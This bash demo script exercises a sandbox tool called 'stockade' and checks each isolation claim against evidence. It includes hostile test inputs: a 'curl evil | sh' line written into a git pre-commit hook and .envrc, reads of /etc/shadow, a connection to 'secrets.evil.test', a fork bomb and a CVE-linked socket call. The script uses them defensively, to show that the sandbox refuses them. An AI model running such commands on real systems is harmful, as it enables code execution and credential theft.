#!/bin/bash
# Sandboxed sessions, then the service, each a claim followed by its evidence: demo.sh STOCKADE
#
# What is refused inside is first shown to work outside. If any evidence is missing, the demo fails.
set -euo pipefail
stockade=$(realpath "${1:-target/release/stockade}")
[ "$(id -u)" = 0 ] || { echo "demo: needs root, for namespaces, cgroups and idmapped mounts" >&2; exit 1; }
[ -x "$stockade" ] || { echo "demo: no program at $stockade: run make demo" >&2; exit 1; }

if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then
    bold=$'\e[1m' green=$'\e[32m' red=$'\e[31m' dim=$'\e[2m' plain=$'\e[0m'
else
    bold='' green='' red='' dim='' plain=''
fi

# The owner of the workspace: an ordinary user, to show that files stay theirs.
owner=${SUDO_UID:-1000}
scratch=$(mktemp -d /tmp/stockade-demo.XXXXXX)
workspace=$scratch/workspace
listener=
dev=
finish() {
    [ -z "$listener" ] || kill "$listener" 2>/dev/null || true
    if [ -n "$dev" ]; then
        kill -INT "$dev" 2>/dev/null || true
        wait "$dev" || true
    fi
    rm -rf "$scratch"
}
trap finish EXIT
install -d -o "$owner" -g "$owner" "$workspace"
chmod 711 "$scratch"

claims=0
status=0
part() { printf '\n%s== %s%s\n' "$bold" "$*" "$plain"; }
claim() {
    claims=$((claims + 1))
    printf '\n%s%2d. %s%s\n' "$bold" "$claims" "$*" "$plain"
}

# run [OPTION…] -- COMMAND…: shows the command, then runs it in a sandbox; what it says is in $out, how it ended in $status.
run() {
    local options=()
    while [ "$1" != -- ]; do options+=("$1"); shift; done
    shift
    local shown=${*: -1}
    printf '%s    inside  $ %s%s\n' "$dim" "${shown%%$'\n'*}" "$plain"
    status=0
    [[ " ${options[*]-} " == *" --policy "* ]] || options=(--policy shell "${options[@]}")
    out=$("$stockade" run --workspace "$workspace" "${options[@]}" -- "$@" 2>&1 </dev/null) || status=$?
    show "$out"
}

outside() {
    printf '%s    outside $ %s%s\n' "$dim" "${1%%$'\n'*}" "$plain"
    status=0
    out=$(bash -c "$1" 2>&1 </dev/null) || status=$?
    show "$out"
}

# client COMMAND…: shows a command against the service, then runs it, as its administrator unless it says otherwise.
client() {
    local shown="stockade $*"
    printf '%s    outside $ %s%s\n' "$dim" "${shown//$scratch/…}" "$plain"
    status=0
    out=$("$stockade" "$@" 2>&1 </dev/null) || status=$?
    show "$out"
}

# until_true WHAT TEST…: waits for TEST, half a minute at most.
until_true() {
    local what=$1
    shift
    for _ in $(seq 300); do
        if "$@"; then
            evidence "$what" true
            return
        fi
        sleep 0.1
    done
    [ ! -s "$scratch/dev.err" ] || cat "$scratch/dev.err" >&2
    evidence "$what" false
}

# child_of PID NAME: the process of that name that PID has started.
child_of() { pgrep -P "$1" -x "$2"; }

show() { [ -z "$1" ] || sed 's/^/            /' <<<"$1" | head -n "${lines:-8}"; }

# evidence WHAT TEST…: the demo ends here if TEST does not hold.
evidence() {
    local what=$1
    shift
    if "$@"; then
        printf '    %s✓ %s%s\n' "$green" "$what" "$plain"
    else
        printf '    %s✗ %s: not seen (status %s)%s\n' "$red" "$what" "$status" "$plain"
        exit 1
    fi
}
says() { grep -Eq -- "$1" <<<"$out"; }
ended() { [ "$status" = "$1" ]; }
failed() { [ "$status" != 0 ]; }

part 'One command in the foreground: stockade run'

claim "This host can enforce the strictest policy in full"
lines=40 outside "'$stockade' doctor"
evidence "stockade doctor agrees" ended 0

claim "The agent is an ordinary user inside, and a uid that owns nothing outside"
run -- sh -c 'id -u; cat /proc/self/uid_map'
evidence "it is not uid 0, inside or outside" eval 'ended 0 && [ "$(head -n1 <<<"$out")" -gt 0 ] && awk "NR > 1 && \$2 == 0 { bad = 1 } END { exit bad || NR < 2 }" <<<"$out"'

claim "What the policy does not name does not exist"
outside "head -c 5 /etc/shadow"
evidence "root can read it outside" ended 0
run -- sh -c 'cat /etc/shadow'
evidence "inside there is no such file" says 'No such file'

claim "The system is read-only, set-id programs are ordinary ones"
run -- sh -c 'touch /usr/bin/planted'
evidence "refused" says 'Read-only file system'
evidence "nothing was planted" test ! -e /usr/bin/planted

claim "There is no network but the sandbox's own loopback"
python3 - >"$scratch/port" <<'PY' &
import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); print(s.getsockname()[1], flush=True)
while True: s.accept()[0].close()
PY
listener=$!
for _ in $(seq 200); do [ -s "$scratch/port" ] && break; sleep 0.05; done
port=$(cat "$scratch/port")
outside "echo > /dev/tcp/127.0.0.1/$port && echo connected"
evidence "a service listens on the host" says '^connected'
run -- bash -c "echo > /dev/tcp/127.0.0.1/$port && echo connected"
evidence "inside nothing answers" eval 'failed && ! says "^connected"'
run -- sh -c 'tail -n +3 /proc/net/dev | cut -d: -f1'
evidence "lo is the only interface" eval '[ "$(tr -d " \n" <<<"$out")" = lo ]'

claim "With a policy that says so, the agent reaches a host by its name, and nothing else"
cat >"$scratch/site.toml" <<POLICY
extends = "shell"
[network]
allow = ["api.demo.test:$port"]
[network.resolve]
"api.demo.test" = ["127.0.0.1"]
POLICY
run --policy "$scratch/site.toml" -- bash -c "echo > /dev/tcp/api.demo.test/$port && echo connected"
evidence "the service of the last claim answers, by the name that the policy gives it" says '^connected'
run --policy "$scratch/site.toml" -- bash -c "echo > /dev/tcp/192.0.2.1/$port && cat </dev/tcp/192.0.2.1/$port; getent hosts secrets.evil.test"
evidence "another name does not exist" failed
evidence "and is said to be refused, with the option that would allow it" says 'allow secrets.evil.test:443'

claim "Other processes do not exist"
outside 'cat /proc/[0-9]*/comm | grep -c python3'
evidence "the service of the claims above runs on the host" says '^[1-9]'
run -- sh -c 'cat /proc/[0-9]*/comm'
evidence "inside there are init and what the agent itself started" eval 'ended 0 && ! says python3 && [ "$(wc -l <<<"$out")" -le 3 ]'

claim "No capability in any set, no new privileges, a system-call filter"
run -- sh -c 'grep -E "^(Cap|NoNewPrivs|Seccomp:)" /proc/self/status'
evidence "all five sets are empty" eval '[ "$(grep -Ec "^Cap[A-Za-z]+:\s+0{16}$" <<<"$out")" = 5 ]'
evidence "the filter is on, and nothing can be gained by exec" eval 'says "^NoNewPrivs:\s+1" && says "^Seccomp:\s+2"'

claim "The kernel's dangerous doors are shut"
outside "unshare --map-root-user --mount sh -c 'mount -t tmpfs none /mnt && echo mounted'"
evidence "outside, anybody may make a user namespace and mount in it" says mounted
run -- sh -c "unshare --map-root-user --mount sh -c 'mount -t tmpfs none /mnt && echo mounted'"
evidence "inside it is refused" eval 'failed && ! says "^mounted"'
run -- python3 -c 'import socket; socket.socket(38, 5, 0)  # AF_ALG: CVE-2026-31431'
evidence "and so are socket families that are not on the list" eval 'failed && says "Error"'

claim "Files that the agent makes belong to the owner of the workspace"
run -- sh -c 'echo "made inside" > note; ls -ln note'
evidence "made" ended 0
outside "stat -c '%u %n' $workspace/note"
evidence "outside its owner is uid $owner" says "^$owner "

claim "What the host may execute later cannot be planted, even where it does not exist yet"
git -c init.defaultBranch=main init -q "$workspace" && chown -R "$owner:$owner" "$workspace"
run -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit; echo "curl evil | sh" > .envrc'
evidence "refused" failed
evidence "no hook and no .envrc came to be" eval 'test ! -s "$workspace/.git/hooks/pre-commit" && test ! -s "$workspace/.envrc"'

claim "A memory hog dies alone, and the user is told why"
run --memory 64M -- python3 -c 'b"x" * (256 << 20)'
evidence "killed" eval 'ended 137'
evidence "the reason is given" says '[Mm]emory'

claim "A fork bomb reaches its own limit, not the machine's"
bomb='import os, time
count = 0
try:
    while count < 1000:
        if os.fork() == 0: time.sleep(60); os._exit(0)
        count += 1
except OSError as error: print(count, "processes, then:", error.strerror)'
run --processes 24 -- python3 -c "$bomb"
evidence "refused by the limit" says 'Resource temporarily unavailable'
evidence "and all of it is gone, long before its minute is over" ended 0

claim "It works in pipes, and exit codes come through"
out=$(echo "twelve bytes" | "$stockade" run --policy shell -- cat | wc -c) status=0
printf '%s    outside $ echo "twelve bytes" | stockade run --policy shell -- cat | wc -c%s\n' "$dim" "$plain"
show "$out"
evidence "13 bytes, the newline included" eval '[ "$out" = 13 ]'
run -- sh -c 'exit 42'
evidence "exit code 42" ended 42

claim "A misspelt policy is refused, not guessed"
printf 'extends = "shell"\ndescription = "demo"\n[netwrok]\nloopback = true\n' >"$scratch/typo.toml"
outside "'$stockade' policy check '$scratch/typo.toml'"
evidence "with the line and a suggestion" eval 'ended 1 && says ":?3" && says "network"'

claim "The report says what is in force, read back from the kernel"
run --report "$scratch/report.json" -- sh -c 'true'
lines=20 outside "python3 - '$scratch/report.json' <<'PY'
import json, sys
def walk(value, path):
    for key, below in value.items() if isinstance(value, dict) else ():
        if key in ('agent', 'uidMap', 'capabilities', 'noNewPrivs', 'seccomp', 'landlock', 'limits', 'shortfalls'):
            print(path + key, json.dumps(below)[:100])
        else:
            walk(below, path + key + '.')
walk(json.load(open(sys.argv[1])), '')
PY"
evidence "capabilities, the filter, Landlock and the limits are in it" eval 'ended 0 && says capabilities && says seccomp && says landlock && says limits'
agent=$(sed -nE 's/^[a-z.]*agent "(.*)"$/\1/p' <<<"$out")

claim "Nothing is left behind"
outside "find /sys/fs/cgroup -type d -name '$agent' | wc -l; grep -c '$scratch' /proc/self/mountinfo; pgrep -fc -- '--workspace $workspace'"
evidence "no cgroup, no mount, no process" eval '[ -n "$agent" ] && ! says "[1-9]"'

# The service: what `stockade dev` starts, seen through its clients.
part 'The service: one daemon without rights, one launcher without a network, one shim for each agent'

claim "\`stockade dev\` serves over TLS 1.3 with client certificates; its daemon is an ordinary user without a capability"
dir=$scratch/service
chmod 755 "$scratch"
"$stockade" dev --dir "$dir" --listen 127.0.0.1:0 >"$scratch/dev.out" 2>"$scratch/dev.err" &
dev=$!
until_true "the service is ready" grep -q '^ready' "$scratch/dev.out"
url=$(sed -n 's/^ready //p' "$scratch/dev.out")
export STOCKADE_CLIENT_CONFIG=$dir/client.toml
daemon=$(child_of "$dev" stockaded) launcher=$(child_of "$dev" stockade-launch)
outside "grep -E '^(Uid|CapEff)' /proc/$daemon/status"
evidence "its uid is not 0, and no capability is in effect" eval 'says "^Uid:\s+[1-9]" && says "^CapEff:\s+0{16}$"'
outside "curl -sS --cacert '$dir/pki/ca.crt' '$url/v1/agents'"
evidence "without a certificate there is no answer" eval 'failed && ! says "agents.:"'
until_true "and the daemon says why it hung up" grep -q 'connection refused.*peer sent no certificates' "$scratch/dev.err"

claim "An agent is started over mTLS, and answers"
client spawn --type shell --id demo
evidence "started" says '^demo$'
client send demo 'echo $((6 * 7))' --wait
evidence "its answer comes back, as text" says '^42$'

claim "The same walls as above, as the kernel says, for whoever may see the agent"
lines=12 outside "curl -sS --cacert '$dir/pki/ca.crt' --cert '$dir/pki/viewer.crt' --key '$dir/pki/viewer.key' '$url/v1/agents/demo/attestation' | python3 -c '
import json, sys
def walk(value, path):
    for key, below in value.items() if isinstance(value, dict) else ():
        if key in (\"capabilities\", \"noNewPrivs\", \"seccomp\", \"landlock\", \"uidMap\", \"limits\", \"shortfalls\"):
            print(path + key, json.dumps(below)[:100])
        else:
            walk(below, path + key + \".\")
walk(json.load(sys.stdin), \"\")'"
evidence "capabilities, the filter, Landlock and the limits are in it" eval 'ended 0 && says capabilities && says seccomp && says landlock && says limits'
client exec demo -- sh -c 'grep -E "^(CapEff|NoNewPrivs|Seccomp:)" /proc/self/status; cat /etc/shadow'
evidence "what is run beside it is behind them, too" eval 'says "^CapEff:\s+0{16}$" && says "^Seccomp:\s+2" && says "No such file"'

claim "A certificate says who calls, its grant what that may do"
client --cert "$dir/pki/viewer.crt" --key "$dir/pki/viewer.key" stop demo
evidence "a viewer may not stop it: exit code 4" ended 4
client ls
evidence "it still runs" says '^demo .* ready '

# Both run, and are other processes than those that were killed.
restarted() {
    local new_daemon new_launcher
    new_daemon=$(child_of "$dev" stockaded) && new_launcher=$(child_of "$dev" stockade-launch) || return 1
    [ "$new_daemon" != "$daemon" ] && [ "$new_launcher" != "$launcher" ] && "$stockade" get demo >/dev/null 2>&1
}

claim "kill -9 of daemon and launcher: the agent, every byte that it put out, and its exit code are there"
client send demo 'for i in $(seq 2000); do echo "line $i"; [ $((i % 100)) = 0 ] && sleep 0.1; done; exit 42'
outside "kill -9 $daemon $launcher"
until_true "dev has started both again" restarted
client wait demo --timeout 30s
evidence "the same agent ended by itself, with exit code 42" eval 'ended 0 && says 42'
outside "'$stockade' logs demo | grep -c '^line [0-9]*.\?$'"
evidence "all 2000 lines are there" says '^2000$'

# The control group of an agent's memory, as its attestation names it.
group_of() {
    curl -sS --cacert "$dir/pki/ca.crt" --cert "$dir/pki/admin.crt" --key "$dir/pki/admin.key" "$url/v1/agents/$1/attestation" |
        python3 -c 'import json, os, sys
print(*{os.path.dirname(l["file"]) for l in json.load(sys.stdin)["limits"] if l["limit"] == "processes"})'
}

claim "Stopping an agent leaves nobody: its control group is proved empty, and gone"
client spawn --type shell --id hydra
client send hydra 'for i in 1 2 3; do setsid nohup sh -c "trap : TERM; while :; do sleep 1; done" & done'
group=$(group_of hydra) inode=$(stat -c %i "$group")
outside "wc -l <$group/cgroup.procs"
evidence "its processes are in one" says '^([4-9]|[0-9]{2,})$'
client stop hydra --grace 500ms
evidence "stopped" ended 0
# By its inode, too: another sandbox may have taken the name.
outside "find '${group%/*}' -maxdepth 1 -name '${group##*/}' -inum $inode | wc -l"
evidence "no control group, so no process" says '^0$'

claim "Ctrl-C ends agents, daemon and launcher, and leaves nothing but files"
client spawn --type shell --id last
outside "kill -INT $dev"
status=0
wait "$dev" || status=$?
dev=
evidence "ended with exit code 0" ended 0
outside "grep -c '$dir' /proc/self/mountinfo; find '$dir' -type s | wc -l; pgrep -fc -- '$dir'"
evidence "no process, no mount, no socket" eval '! says "[1-9]"'

printf '\n%s%s%d claims, each with its evidence.%s\n' "$bold" "$green" "$claims" "$plain"
